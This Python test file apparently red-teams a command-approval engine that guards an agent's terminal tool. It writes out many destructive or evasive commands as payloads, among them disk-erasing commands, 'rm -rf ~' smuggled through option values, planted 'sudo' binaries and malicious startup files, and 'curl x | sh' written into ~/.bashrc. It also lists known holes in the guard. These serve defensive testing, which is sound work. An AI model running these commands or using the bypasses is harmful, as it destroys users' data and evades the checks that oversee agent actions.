"""xfail40 (stop 40, issue 8): the strict xfails stop 39 left open, and what it noticed and did not fix.

1. DISKS: `nvme format|sanitize`, `badblocks -w`, `sg_format --format` erase a disk (policies/disk.yaml).
2. SALT: `salt '*' file.remove ~` deletes the path on every minion (this one too); file.write/append write it.
3. OPTION VALUES: `-o NAME=CMD` of a browser, editor, pager (w3m's extbrowser); git's instaweb.httpd/browser.
4. ENVIRONMENT: a later `--help` lowers a hardline match only when the command's environment is the line's: a
   sourced file, eval, a computed export, or a wrapper that loads its own (direnv exec, pipenv run, a login
   shell: not in `keeps_environment:`) may set POSIXLY_CORRECT (then `--help` is an operand and it runs).
5. PLANTED PROGRAMS: `./sudo`, `bin/nice`, `PATH=.:$PATH sudo`: a program of the table's name outside the
   system's folders is also read as one the table does not describe (shell._unlisted_reading).
6. GIT'S COPIES: --no-ignore-removal, magic pathspecs, a stash save's message, `-q` (test_debt39's payloads).
7. TABLES: argv's ends_options sets `rest` in any grammar; duckdb and the sql shells are command readers; yarn
   NAME runs a written node_modules/.bin/NAME; `java M.java`, dub, .octaverc, .ghci, JULIA_DEPOT_PATH; npm's
   scripts from a package.json nobody reads with a written bin; `. .venv/bin/activate` makes PATH unknown.
8. fresh39a's: cmake's -D launchers, `nix run X -- ARGS`, wine and its Z: drive, psql's `\\setenv EDITOR`.
9. Noticed by stop 39: `git format-patch && sh p/0001*`, `flatpak run --command=CMD`, decompressors' outputs.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine import Engine
from engine.policy.argv import Grammar, parse_argv, parse_getopt
from tests.redteam.conftest import home_intact, judge
from tests.redteam.harm import (
    Case,
    assert_verdict,
    background_writes,
    blocked,
    harm_project,
    printing_tree,
    run_confined,
    verdict_cases,
)

KEY = "sk-live-xfail40-0123456789abcdef"


def not_allowed(engine: Engine, commands: list[str]) -> list[str]:
    return [c for c in commands if judge(engine, c).decision == "allow"]


def flagged(engine: Engine, commands: list[str]) -> list[str]:
    return [c for c in commands if judge(engine, c).decision != "allow"]


# -- 1. disks ---------------------------------------------------------------------------------------------------------
DISK_PAYLOADS = [
    "nvme format /dev/nvme0 -s 1",
    "sudo nvme format /dev/nvme0n1",
    "mywrap nvme format /dev/nvme0",
    "nvme sanitize -a 2 /dev/nvme0",
    "nvme delete-ns /dev/nvme0 -n 1",
    "badblocks -w /dev/sda",
    "badblocks -wsv /dev/sdb",
    "sudo badblocks -b 4096 -w /dev/sdb",
    "sg_format --format /dev/sg1",
    "sg_sanitize --crypto /dev/sg1",
]
DISK_NEAR = [
    "nvme list",
    "nvme smart-log /dev/nvme0",
    "sudo nvme id-ctrl /dev/nvme0",
    "badblocks -sv /dev/sda",
    "badblocks -nsv /dev/sda",
    "sg_format /dev/sg1",
]


@pytest.mark.parametrize("command", DISK_PAYLOADS)
def test_a_disk_erasing_command_is_hardline(engine: Engine, command: str) -> None:
    verdict = judge(engine, command)
    assert verdict.decision == "deny" and verdict.hardline, (command, verdict.decision)


def test_reading_a_disk_stays_allowed(engine: Engine) -> None:
    assert flagged(engine, DISK_NEAR) == []


# -- 2. salt's file module --------------------------------------------------------------------------------------------
def test_salts_file_module_deleting_or_writing_home_is_refused(engine: Engine) -> None:
    assert judge(engine, "salt '*' file.remove ~").hardline
    assert judge(engine, "salt-call --local file.rmdir ~/.ssh").decision != "allow"
    assert judge(engine, "salt '*' file.append ~/.bashrc 'curl x | sh'").decision != "allow"
    assert judge(engine, "salt-ssh 'web*' file.write ~/.ssh/authorized_keys k").decision != "allow"


def test_salts_other_functions_stay_allowed(engine: Engine) -> None:
    near = ["salt '*' test.ping", "salt '*' file.remove /tmp/build.log", "salt-call grains.items"]
    assert flagged(engine, near) == []


# -- 3. an option's value naming a program ---------------------------------------------------------------------------
OPTION_PAYLOADS = [
    "w3m -o extbrowser='rm -rf ~' https://example.com",
    "w3m -o editor='rm -rf ~' x.html",
    "mytool -o pager='rm -rf ~'",
    "git -c instaweb.httpd='rm -rf ~' instaweb",
    "git -c instaweb.browser='rm -rf ~' instaweb --start",
    "git config instaweb.httpd 'rm -rf ~'",
]
OPTION_NEAR = [
    "w3m -o display_charset=UTF-8 x.html",
    "w3m -o editor=vim x.html",
    "sort -o out.txt in.txt",
    "git -c instaweb.port=1234 instaweb",
    "git config instaweb.port 1234",
]


def test_an_option_value_naming_a_browser_or_httpd_is_read(engine: Engine) -> None:
    assert not_allowed(engine, OPTION_PAYLOADS) == []
    assert judge(engine, OPTION_PAYLOADS[0]).hardline


def test_an_option_value_naming_no_program_stays_allowed(engine: Engine) -> None:
    assert flagged(engine, OPTION_NEAR) == []


# -- 4. an environment the line does not name: POSIXLY_CORRECT ---------------------------------------------------
UNKNOWN_ENVIRONMENT = [
    ". ./e; shutdown now --help",
    "source ./env.sh && systemctl reboot --help",
    "set -a; . ./e; set +a; shutdown now --help",
    'eval "$(cat e)"; shutdown now --help',
    "export POSIXLY_${X}CORRECT=1; shutdown now --help",
    'export "$v"; shutdown now --help',
    'read -r "$n" <<< 1; export "$n"; shutdown now --help',
    "direnv exec . shutdown now --help",
    "pipenv run shutdown now --help",
    "bash -l -c 'shutdown now --help'",
    "bash --login -c 'systemctl reboot --help'",
    "zsh -c 'shutdown now --help'",
]
# the environment known: a later `--help` still only asks (tests/redteam/test_holes39.py)
KNOWN_ENVIRONMENT = [
    "shutdown now --help",
    "sudo shutdown now --help",
    "nohup systemctl reboot --help",
    "bash -c 'shutdown now --help'",
    "export FOO=1; shutdown now --help",
]


@pytest.mark.parametrize("command", UNKNOWN_ENVIRONMENT)
def test_a_later_help_in_an_unknown_environment_stays_hardline(engine: Engine, command: str) -> None:
    verdict = judge(engine, command)
    assert verdict.decision == "deny" and verdict.hardline, (command, verdict.decision)


@pytest.mark.parametrize("command", KNOWN_ENVIRONMENT)
def test_a_later_help_in_the_lines_environment_asks(engine: Engine, command: str) -> None:
    verdict = judge(engine, command)
    assert verdict.decision == "ask" and not verdict.hardline, (command, verdict.decision)


def test_the_environment_wrappers_are_data(engine: Engine) -> None:
    keeps = engine.snapshot.policy.programs.keeps_environment
    assert {"sudo", "nohup", "env", "bash"} <= keeps
    assert keeps.isdisjoint({"direnv", "pipenv", "zsh", "ssh"})


def test_a_sourced_file_does_set_posixly_correct(tmp_path: Path) -> None:
    """The mechanism, harmless: a sourced file's export reaches a later GNU program, which then reads a later
    `--help` as an operand (`ls x --help` lists x, as `shutdown now --help` shuts down)."""
    (tmp_path / "e").write_text("export POSIXLY_CORRECT=1\n")
    (tmp_path / "x").write_text("")
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    ran = subprocess.run(
        ["bash", "-c", ". ./e; ls x --help"], cwd=tmp_path, env=env, capture_output=True, text=True, check=False
    )
    assert "Usage" not in ran.stdout and "--help" in ran.stderr, ran


# -- 5. a program planted under a system program's name --------------------------------------------------------------
PLANTED = [
    "./sudo -V -c 'rm -rf ~'",
    "PATH=.:$PATH sudo -V -c 'rm -rf ~'",
    "export PATH=.:$PATH; sudo -V -c 'rm -rf ~'",
    "bin/nice --version -c 'rm -rf ~'",
    "./sudo -V rm -rf ~",
    "./systemctl --help reboot",
]
PLANTED_NEAR = [
    "/usr/bin/sudo -V",
    "sudo -V",
    ".venv/bin/python -c 'print(1)'",
    ".venv/bin/pip install -r requirements.txt",
    "./gradlew build",
    "node_modules/.bin/jest --watch",
    "PATH=./node_modules/.bin:$PATH jest --ci",
    "PATH=$PATH:./bin make -j2",
    "export PATH=/usr/local/bin:$PATH; make -j2",
    "./configure --prefix=/usr/local",
]


@pytest.fixture
def planted(plain_harm: tuple[Engine, Path, Path]) -> tuple[Engine, Path, Path]:
    """A copy of dash named sudo, systemctl and bin/nice in the project, put there by no call of the session and
    long before it (a checkout's: backdated, so no session wrote or changed them and only the command's reading
    can refuse them; xfail41)."""
    engine, home, root = plain_harm
    (root / "bin").mkdir()
    for copy in (root / "sudo", root / "systemctl", root / "bin" / "nice"):
        shutil.copyfile("/bin/dash", copy)
        copy.chmod(0o755)
        os.utime(copy, (1e9, 1e9))
    os.utime(root / "bin", (1e9, 1e9))
    return engine, home, root


@pytest.mark.parametrize("command", PLANTED)
def test_a_planted_program_is_not_read_by_its_names_row(planted: tuple[Engine, Path, Path], command: str) -> None:
    assert planted[0].check(command).decision != "allow", command


def test_a_planted_sudo_deletes_home_unguarded_and_is_refused(
    tmp_path: Path, planted: tuple[Engine, Path, Path]
) -> None:
    home, _, _ = run_confined(tmp_path, "cp /bin/dash ./sudo && ./sudo -V -c 'rm -rf ~'")
    assert not home_intact(home), "the payload should delete the home unguarded"
    engine, home, _ = planted
    blocked(engine, home, "./sudo -V -c 'rm -rf ~'")


@pytest.mark.parametrize("command", PLANTED_NEAR)
def test_a_program_of_a_project_folder_stays_allowed(planted: tuple[Engine, Path, Path], command: str) -> None:
    assert planted[0].check(command).decision == "allow", command


# -- 6. git's copies: the near misses of test_debt39's payloads ------------------------------------------------------
GIT_NEAR = [
    "git stash -q",
    "git stash save wip",
    "git stash push -q -u src",
    "git add -q src/app.py",
    "git add --no-ignore-removal src",
]


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, Engine, dict[str, str]]]:
    with printing_tree(tmp_path, monkeypatch, KEY) as made:
        yield made


def test_gits_copies_of_no_ignored_secret_stay_allowed(tree: tuple[Path, Engine, dict[str, str]]) -> None:
    assert flagged(tree[1], GIT_NEAR) == []


@pytest.mark.parametrize("command", ["git stash -qa", "git add -qf .", "git stash save -a wip", "git add -f :/"])
def test_gits_copies_of_the_ignored_files_ask(tree: tuple[Path, Engine, dict[str, str]], command: str) -> None:
    assert tree[1].check(command).decision == "ask", command


# -- 7. the tables ---------------------------------------------------------------------------------------------------
def test_an_option_ending_options_starts_the_command_in_any_grammar() -> None:
    """argv: an `ends_options` option (`-c`) makes the next word where the command starts (`rest`), with or
    without `+` in the grammar (a project's row of a wrapper with `ends_options: [c]` and `rest: true` runs)."""
    short, stop, plus = parse_getopt("c:x")
    assert not stop
    grammar = Grammar(short=short, stop_at_operand=stop, plus=plus, ends_options=frozenset({"c"}))
    parsed = parse_argv(grammar, ["w", "-x", "-c", "v", "rm", "-rf", "/"])
    assert parsed.rest == 4
    assert parse_argv(grammar, ["w", "-x", "a", "b"]).rest is None


@pytest.fixture
def fake_duckdb(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Engine, Path, Path]]:
    """A `duckdb` on PATH that runs its input's `.shell CMD` lines, as duckdb's shell does."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "duckdb").write_text(
        '#!/bin/sh\nwhile IFS= read -r l; do case "$l" in ".shell "*) sh -c "${l#.shell }";; esac; done\n'
    )
    (bin_dir / "duckdb").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '/usr/bin:/bin')}")
    with harm_project(tmp_path, monkeypatch, "kind: ApprovalPolicy\n") as loaded:
        yield loaded


def test_duckdb_in_the_background_is_a_command_reader(fake_duckdb: tuple[Engine, Path, Path]) -> None:
    engine, home, _ = fake_duckdb
    assert "duckdb" in engine.snapshot.policy.programs.command_readers
    *_, last = background_writes(engine, "duckdb", [".shell rm -r", "f ~\n"])
    assert not last.ok and last.error is not None and last.error.type in ("denied", "pending_approval")
    assert home_intact(home)


def test_duckdb_in_the_background_takes_ordinary_lines(fake_duckdb: tuple[Engine, Path, Path]) -> None:
    engine, home, root = fake_duckdb
    results = background_writes(engine, "duckdb", ["select 42", ";\n", "create table t (x int);\n", ".tables\n"])
    assert all(r.ok for r in results), results
    assert home_intact(home) and root.is_dir()


BIN = {"node_modules/.bin/jest": "#!/bin/sh\nrm -rf ~\n"}
SESSION_PAYLOADS: dict[str, Case] = {
    "yarn jest": (BIN, "yarn jest --ci"),
    "yarn a written bin in a sub-folder": ({"web/node_modules/.bin/jest": "rm -rf ~\n"}, "cd web && yarn jest"),
    "npm test, the project's package.json": (BIN, "npm test"),
    "pnpm lint, the project's package.json": (BIN, "pnpm lint"),
    "activate then pytest": ({".venv/bin/pytest": "rm -rf ~\n"}, ". .venv/bin/activate && pytest -q"),
    "an unread sourced file then pytest": ({".venv/bin/pytest": "rm -rf ~\n"}, "source ./env.sh; pytest"),
    "java M.java": ({"M.java": "class M {}\n"}, "java M.java"),
    "java -cp x M.java": ({"src/M.java": "class M {}\n"}, "java -cp lib src/M.java arg"),
    "dub.json": ({"dub.json": '{"preBuildCommands": ["rm -rf ~"]}'}, "dub build"),
    "dub run of written sources": ({"source/app.d": "void main() {}\n"}, "dub run"),
    ".octaverc": ({".octaverc": "system('rm -rf ~')\n"}, "octave --eval 1"),
    ".ghci": ({".ghci": ":! rm -rf ~\n"}, "ghci -e 1"),
    "JULIA_DEPOT_PATH": ({"depot/config/startup.jl": "run(`rm -rf ~`)\n"}, "JULIA_DEPOT_PATH=depot julia -e 1"),
}
SESSION_NEAR: dict[str, Case] = {
    "yarn add": ({"src/x.js": "module.exports = 1\n"}, "yarn add left-pad"),
    "yarn why": ({}, "yarn why react"),
    "yarn jest, nothing written": ({}, "yarn jest --ci"),
    "npm test, nothing written in .bin": ({"src/x.js": "module.exports = 1\n"}, "npm test"),
    "activate then pytest, nothing written": ({"test_x.py": "def test_x(): pass\n"}, ". .venv/bin/activate && pytest"),
    "javac M.java": ({"M.java": "class M {}\n"}, "javac M.java"),
    "java Main": ({}, "java -cp out Main"),
    "dub build, nothing written": ({}, "dub build"),
    "octave --norc": ({".octaverc": "system('rm -rf ~')\n"}, "octave --norc --eval 1"),
    "ghci, nothing written": ({}, "ghci -e 1"),
    "julia, a depot of nothing written": ({}, "JULIA_DEPOT_PATH=~/.julia julia -e 1"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(SESSION_PAYLOADS, SESSION_NEAR))
def test_a_file_the_session_wrote_and_a_program_runs_is_read(
    plain_project: tuple[Path, Engine], case: Case, allowed: bool, session: str
) -> None:
    assert_verdict(plain_project, case, allowed, session)


# -- 8. fresh39a's: cmake, nix, wine, psql --------------------------------------------------------------------------
FRESH39A_PAYLOADS = [
    "cmake -DCMAKE_C_COMPILER_LAUNCHER='sh;-c;rm -rf ~' .",
    "cmake -D CMAKE_CXX_CLANG_TIDY:STRING='rm -rf ~' -B build",
    "cmake -DCMAKE_CROSSCOMPILING_EMULATOR='rm -rf ~' -B b",
    "nix run nixpkgs#bash -- -c 'rm -rf ~'",
    "nix run nixpkgs#coreutils -- rm -rf ~",
    "wine cmd /c 'rd /s /q Z:\\home\\u'",
    "wine64 cmd /c 'rd /s /q Z:\\'",
    "psql -c '\\setenv PSQL_EDITOR \"rm -rf ~;\"' -c '\\e'",
    "psql <<< '\\setenv EDITOR \"rm -rf ~\"'",
]
FRESH39A_NEAR = [
    "cmake -DCMAKE_C_COMPILER_LAUNCHER=ccache -B build",
    "cmake -DCMAKE_BUILD_TYPE=Release -DCMAKE_EXPORT_COMPILE_COMMANDS=ON -S . -B build",
    "cmake -DCMAKE_CXX_COMPILER=clang++ -B build",
    "nix run nixpkgs#hello -- --greeting hi",
    "nix run .#app -- serve --port 8080",
    "wine notepad.exe",
    "wine setup.exe /S",
    "psql -c '\\setenv TZ UTC' -c 'select now()'",
    "psql -c 'select 1'",
]


def test_fresh39as_payloads_are_refused(engine: Engine) -> None:
    assert not_allowed(engine, FRESH39A_PAYLOADS) == []
    assert all(judge(engine, c).hardline for c in FRESH39A_PAYLOADS[:8] if "psql" not in c and "CLANG" not in c)


def test_fresh39as_near_misses_stay_allowed(engine: Engine) -> None:
    assert flagged(engine, FRESH39A_NEAR) == []


# -- 9. stop 39's noticed items --------------------------------------------------------------------------------------
# (the author's name `#a` makes the patch's `From:` line a comment: the message's line is the first command that runs)
GIT_PATCH_COMMIT = (
    "git init -q && echo a > a && git add a && git -c user.name='#a' -c user.email=a@example.com commit -q -m x"
    " -m 'rm -rf ~'"
)


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_patch_git_writes_then_run_is_refused(tmp_path: Path, plain_harm: tuple[Engine, Path, Path]) -> None:
    """format-patch writes the commits' messages into the patch; `sh` runs their lines (`rm -rf ~`)."""
    payload = f"{GIT_PATCH_COMMIT} && git format-patch -q -1 -o p && sh p/0001*"
    home, _, _ = run_confined(tmp_path, payload)
    assert not home_intact(home), "the payload should delete the home unguarded"
    engine, home, _ = plain_harm
    blocked(engine, home, payload)
    for command in ("git format-patch -1 -o p && sh p/0001*", "git format-patch -1 && bash ./0001-x.patch"):
        assert engine.check(command).decision != "allow", command
    # (merge49) `git format-patch -1 && git send-email *.patch` asks since xf49b: format-patch writes names the line
    # does not show, and a glob holding a `.` after them reaches send-email's options whose value runs (`--to-cmd`)
    for command in ("git format-patch -3 -o out", "git format-patch -1 -o out && ls out"):
        assert engine.check(command).decision == "allow", command


FLATPAK = ["flatpak run --command=rm org.x -rf ~", "flatpak run --command=sh org.x -c 'rm -rf ~'"]
FLATPAK_NEAR = ["flatpak run org.gimp.GIMP", "flatpak run --branch=stable org.gimp.GIMP a.png", "flatpak list"]


def test_flatpaks_command_is_read(engine: Engine) -> None:
    assert all(judge(engine, c).hardline for c in FLATPAK), FLATPAK
    assert judge(engine, "flatpak run --command=bash org.x").decision != "allow"
    assert flagged(engine, FLATPAK_NEAR) == []


DECOMPRESSED = [
    "gzip -d ~/.bashrc.gz",
    "gunzip -f ~/.bashrc.gz",
    "xz -dk ~/.ssh/authorized_keys.xz",
    "gzip -d -f /etc/passwd.gz",
    "unzstd x.zst -o ~/.profile",
]
DECOMPRESSED_NEAR = ["gunzip x.gz", "gzip -d build/x.gz", "gzip -dc a.gz > a.txt", "xz -d data.xz", "gzip -9 x.txt"]


def test_a_decompressors_output_is_judged_as_a_write(engine: Engine) -> None:
    assert not_allowed(engine, DECOMPRESSED) == []
    assert judge(engine, "gunzip -f policies/deny.yaml.gz").hardline
    assert flagged(engine, DECOMPRESSED_NEAR) == []


def test_a_decompressed_startup_file_is_written_unguarded_and_refused(
    tmp_path: Path, plain_harm: tuple[Engine, Path, Path]
) -> None:
    payload = "printf 'curl x | sh\\n' | gzip > ~/.bashrc.gz; gunzip -f ~/.bashrc.gz"
    home, _, _ = run_confined(tmp_path, payload)
    assert (home / ".bashrc").read_text() == "curl x | sh\n", "the payload should write the start-up file"
    engine, home, _ = plain_harm
    (home / ".bashrc").write_text("# mine\n")
    result = engine.call("terminal", {"command": payload})
    assert not result.ok and result.error is not None and result.error.type in ("denied", "pending_approval")
    assert (home / ".bashrc").read_text() == "# mine\n"
